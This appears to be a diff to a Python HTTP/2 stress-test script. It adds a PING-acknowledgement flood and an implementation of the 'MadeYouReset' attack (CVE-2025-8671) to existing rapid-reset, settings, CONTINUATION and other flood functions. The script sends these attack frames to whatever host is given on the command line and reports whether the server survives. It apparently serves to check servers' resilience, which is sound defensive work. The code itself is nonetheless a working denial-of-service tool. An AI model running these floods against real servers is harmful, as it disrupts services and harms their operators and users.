@@ -46,6 +46,25 @@ def priorities(c):
     c.send(frame(PRIORITY, 0, 1, bytes([0, 0, 0, 0, 9])) * 100_000)
 
 
+def acknowledgements(c):
+    """Of PINGs that nobody has sent."""
+    c.send(frame(PING, ACK, 0, bytes(8)) * 100_000)
+
+
+def made_you_reset(c):
+    """CVE-2025-8671: each request makes the server reset it."""
+    for i in range(2000):
+        stream = 2 * i + 1
+        if i % 32 == 0:
+            # No more at once than are let in.
+            try:
+                c.expect_alive()
+            except Failure:
+                return
+        c.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, c.block(c.fields(path="/slow"))),
+               frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)))
+
+
 def continuations(c):
     """CVE-2024-27316: a head without an end."""
     c.frame(HEADERS, END_STREAM, 1, c.block(c.fields()))
@@ -60,20 +79,22 @@ def bomb(c):
 
 def main():
     kinds = {f.__name__: f for f in [rapid_reset, pings, settings, large_settings, empty_frames,
-                                     priorities, continuations, bomb]}
+                                     priorities, continuations, bomb, acknowledgements,
+                                     made_you_reset]}
     c = Connection(sys.argv[1])
     kinds[sys.argv[2].replace("-", "_")](c)
     c.frame(PING, 0, 0, b"the end!")
     said = "closed"
     try:
         while (found := c.read()) is not None:
-            if found.kind == GOAWAY and found.code != NO_ERROR:
-                said = str(found.code)
             if found.kind == PING and found.payload == b"the end!":
                 said = "served"
                 break
     except OSError:
         pass
+    for found in c.log:
+        if found.kind == GOAWAY and found.code != NO_ERROR:
+            said = str(found.code)
     print(said)
 
 
